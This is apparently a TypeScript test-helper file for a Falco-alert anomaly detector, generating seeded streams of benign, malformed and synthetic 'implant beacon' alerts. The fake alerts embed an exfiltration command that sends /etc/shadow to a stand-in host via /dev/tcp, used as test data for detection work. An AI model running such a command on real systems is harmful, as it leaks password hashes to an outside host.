import { readFileSync } from 'node:fs';
import type { FalcoAlert } from '../../../contracts';
import { FalcoAlertSchema } from '../../../contracts';
import type { CoreSettings } from '../../../gate/core';
import { GateCore, packEvents } from '../../../gate/core';
import type { GateModel } from '../../../gate/model/gate-model';
import { decodeGateModel, encodeGateModel } from '../../../gate/model/gate-model';
import { trainGateModel } from '../../../gate/model/train';
import { ROOT } from '../../helpers/fixtures';
import { join } from 'node:path';

export const BACKGROUND = join(ROOT, 'examples', 'gate-background.jsonl');
export const REPLAY = join(ROOT, 'examples', 'gate-replay.jsonl');
export const CRITICAL = ['kube-system', 'kube-public', 'kube-node-lease', 'vigil'];

/** Core settings with a threshold override (or the model's own with undefined), the default floor and no suppressions. */
export function coreSettings(anomalyThreshold: number | undefined, criticalNamespaces: readonly string[] = CRITICAL, extra: Partial<CoreSettings> = {}): CoreSettings {
  return { anomalyThreshold, priorityFloor: 'Critical', criticalNamespaces, suppressions: [], ...extra };
}

export function jsonl(path: string): string[] {
  return readFileSync(path, 'utf8')
    .split('\n')
    .filter((l) => l.trim());
}

export function background(): FalcoAlert[] {
  return jsonl(BACKGROUND).map((l) => FalcoAlertSchema.parse(JSON.parse(l)));
}

let cached: GateModel | undefined;
/** The demo's model (trained on examples/gate-background.jsonl, seed 1), trained once per test file. */
export function demoModel(): GateModel {
  cached ??= decodeGateModel(encodeGateModel(trainGateModel(background(), { criticalNamespaces: CRITICAL, seed: 1 })), 'demo model');
  return cached;
}

/** Background lines that score well below the demo threshold on their own: what "typical" means here. */
export function typicalBackground(maxScore = 0.5): string[] {
  const lines = jsonl(BACKGROUND);
  const model = demoModel();
  return lines.filter((line) => {
    const core = new GateCore({ model, settings: coreSettings(0, CRITICAL), maxEventBytes: 1 << 20, correlationWindowMs: 600_000 });
    const [scored] = core.process(packEvents([Buffer.from(line)])).anomalies;
    return scored !== undefined && scored.anomaly.score < maxScore;
  });
}

/** A small seeded generator (mulberry32): the same seed gives the same stream on every run. */
export function seeded(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export interface MixedStream {
  /** Every message in production order, as falcosidekick would send them (value only). */
  messages: Array<{ value: Buffer | null; kind: 'benign' | 'anomalous' | 'malformed'; group?: number }>;
  anomalousGroups: number;
}

/**
 * Background alerts (from the training data's own distribution) mixed with implant alerts in
 * groups that share a pod, a rule and a 10-minute window (so each group is one incident), and a
 * few malformed messages. Anomalies are unmistakable (never-seen rules, Emergency, credentials,
 * public peer, control plane) and the background is typical, so which alerts are anomalous does
 * not depend on what the gate's windows saw before a restart.
 */
export function mixedStream(opts: { benign: number; groups: number; seed: number }): MixedStream {
  const rnd = seeded(opts.seed);
  const bg = typicalBackground();
  const shell = background().find((a) => a.rule === 'Terminal shell in container')!;
  // Background without replacement (a duplicated line would be a burst on its pod) and in time
  // order, as a Kafka partition delivers it; the rest is woven in at random places.
  const picked: string[] = [];
  for (let i = 0; i < opts.benign && bg.length > 0; i++) picked.push(bg.splice(Math.floor(rnd() * bg.length), 1)[0]!);
  picked.sort((a, b) => Date.parse((JSON.parse(a) as { time: string }).time) - Date.parse((JSON.parse(b) as { time: string }).time));
  const messages: MixedStream['messages'] = picked.map((l) => ({ value: Buffer.from(l), kind: 'benign' as const }));
  const woven: MixedStream['messages'] = [];
  const base = Date.parse('2026-11-18T02:00:00Z');
  for (let g = 0; g < opts.groups; g++) {
    for (let k = 0; k <= g % 4; k++) {
      const alert = {
        ...shell,
        priority: 'Emergency',
        rule: `Vigil test: implant beacon ${opts.seed}-${g}`,
        time: new Date(base + g * 3_600_000 + k * 5_000).toISOString(),
        output: `Implant ${g}.${k} beaconing`,
        output_fields: {
          ...shell.output_fields,
          'k8s.ns.name': 'kube-system',
          // No dash before the numbers: `victim-1-0` would read as StatefulSet `victim-1`, one workload for every group.
          'k8s.pod.name': `victim${opts.seed}g${g}`,
          'proc.name': `implant${g}`,
          'proc.pname': 'kworker',
          'proc.cmdline': `sh -c cat /etc/shadow > /dev/tcp/203.0.113.${g}/4444 # ${k}`,
          'fd.name': `10.244.0.9:4${k}000->203.0.113.${g}:4444`,
        },
      };
      woven.push({ value: Buffer.from(JSON.stringify(alert)), kind: 'anomalous', group: g });
    }
  }
  const valid = JSON.stringify(shell);
  const malformed = [
    valid.slice(0, 150),
    'not json at all',
    JSON.stringify({ ...shell, priority: 'Urgent' }),
    JSON.stringify({ ...shell, rule: undefined }),
    'null',
    `[${valid}]`,
  ];
  for (const m of malformed) woven.push({ value: Buffer.from(m), kind: 'malformed' });
  woven.push({ value: null, kind: 'malformed' });
  woven.push({ value: Buffer.from([0xff, 0xfe, 0x00]), kind: 'malformed' });
  for (const m of woven) messages.splice(Math.floor(rnd() * (messages.length + 1)), 0, m);
  // Within a group, alerts keep their order (a partition never reorders them).
  const values = new Map<number, Array<Buffer | null>>();
  for (const w of woven) if (w.group !== undefined) values.set(w.group, [...(values.get(w.group) ?? []), w.value]);
  for (const m of messages) if (m.group !== undefined) m.value = values.get(m.group)!.shift()!;
  return { messages, anomalousGroups: opts.groups };
}
